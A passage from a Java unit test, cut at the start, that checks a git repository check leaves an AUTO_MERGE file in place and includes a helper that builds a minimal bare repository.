    Files.writeString(git.resolve("AUTO_MERGE"), "1234\n");

    assertThat(check.check()).isEmpty();
    assertThat(git.resolve("AUTO_MERGE")).exists();
  }

  private static Path bare(Path dir, String config) throws IOException {
    Files.createDirectories(dir.resolve("objects"));
    Files.createDirectories(dir.resolve("refs/heads"));
    Files.writeString(dir.resolve("HEAD"), "ref: refs/heads/main\n");
    Files.writeString(dir.resolve("config"), config);
    return dir;
  }
}
